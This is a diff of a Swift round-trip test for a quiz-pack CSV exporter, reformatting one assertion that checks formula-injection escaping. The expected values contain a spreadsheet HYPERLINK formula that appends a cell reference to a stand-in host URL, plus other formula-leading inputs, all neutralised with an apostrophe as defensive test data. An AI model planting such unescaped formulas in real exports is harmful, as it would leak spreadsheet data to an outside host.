@@ -97,7 +97,10 @@ struct RoundTripTests {
         }
         let pack = Pack(name: "formulas", title: "formulas", language: "es", items: .quiz(items))
         let lines = PackExporter.csv(pack).split(separator: "\n")
-        #expect(lines[1] == #"'=1+1,"'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")","'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")""#)
+        #expect(
+            lines[1]
+                == #"'=1+1,"'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")","'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")""#
+        )
         #expect(lines[2] == "'=1+1,'+1+2,'+1+2")
         #expect(lines[3] == "'=1+1,'@SUM(1),'@SUM(1)")
         #expect(lines[4] == "'=1+1,'-3 grados,'-3 grados")
